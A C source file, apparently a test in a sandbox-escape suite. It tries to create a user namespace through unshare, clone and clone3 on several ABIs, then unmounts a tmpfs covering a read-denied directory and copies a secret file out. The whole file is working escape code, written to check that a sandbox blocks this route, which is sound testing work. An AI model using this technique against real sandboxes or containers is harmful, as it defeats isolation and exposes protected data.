/* moat-escape-userns HIDDEN SECRET OUT
 *
 * A new user namespace gives back every capability, over a new mount
 * namespace too: enough to unmount the tmpfs that hides HIDDEN (a
 * read-denied directory) and read SECRET beneath it. The attack tries
 * unshare(CLONE_NEWUSER) through the x86_64, x32 and i386 entries,
 * clone(CLONE_NEWUSER) (x86_64 and i386) and clone3; in any new namespace
 * it maps its ids, unshares the mount namespace, unmounts HIDDEN and copies
 * SECRET to OUT. The suite judges by whether the secret reached OUT (or
 * anywhere it can see). Exits ESC_ESCAPED if a user namespace was made. */
#include "escape.h"

#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <sys/mount.h>
#include <sys/wait.h>

#define NR32_UNSHARE 310
#define NR32_CLONE 120

static const char *hidden, *secret, *out;

static void write_file(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  if (fd >= 0) {
    if (write(fd, text, strlen(text)) < 0)
      perror(path);
    close(fd);
  }
}

/* Inside a new user namespace: take the mount namespace and the secret. */
static void exploit(unsigned uid, unsigned gid) {
  char map[64];
  write_file("/proc/self/setgroups", "deny");
  snprintf(map, sizeof map, "0 %u 1", uid);
  write_file("/proc/self/uid_map", map);
  snprintf(map, sizeof map, "0 %u 1", gid);
  write_file("/proc/self/gid_map", map);
  esc_note("unshare(CLONE_NEWNS)", syscall(SYS_unshare, CLONE_NEWNS));
  esc_note("umount2(HIDDEN)", umount2(hidden, MNT_DETACH));
  esc_note("copy SECRET to OUT", esc_copy(secret, out));
}

/* A fork-like clone: the child exploits and exits. */
static int forked(const char *what, long pid, unsigned uid, unsigned gid) {
  esc_note(what, pid);
  if (pid == 0) {
    exploit(uid, gid);
    _exit(0);
  }
  if (pid > 0)
    waitpid((pid_t)pid, NULL, 0);
  return pid >= 0;
}

/* One ABI (a child process of its own): clone, clone3, then unshare. */
static int attack(enum esc_abi abi, void *unused) {
  (void)unused;
  unsigned uid = getuid(), gid = getgid();
  char what[64];
  int made = 0;
  snprintf(what, sizeof what, "clone(CLONE_NEWUSER) %s", esc_abi_name[abi]);
  made |= forked(what, esc_syscall(abi, SYS_clone, NR32_CLONE, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0), uid, gid);
  if (abi == ESC_NATIVE) {
    struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
    made |= forked("clone3(CLONE_NEWUSER)", syscall(SYS_clone3, &args, sizeof args), uid, gid);
  }
  snprintf(what, sizeof what, "unshare(CLONE_NEWUSER) %s", esc_abi_name[abi]);
  long rc = esc_syscall(abi, SYS_unshare, NR32_UNSHARE, CLONE_NEWUSER, 0, 0, 0, 0);
  esc_note(what, rc);
  if (rc == 0) {
    exploit(uid, gid);
    made = 1;
  }
  return made ? ESC_ESCAPED : ESC_OK;
}

int main(int argc, char **argv) {
  if (argc != 4)
    return ESC_USAGE;
  esc_deadline(10);
  hidden = argv[1];
  secret = argv[2];
  out = argv[3];
  return esc_each_abi(attack, NULL);
}
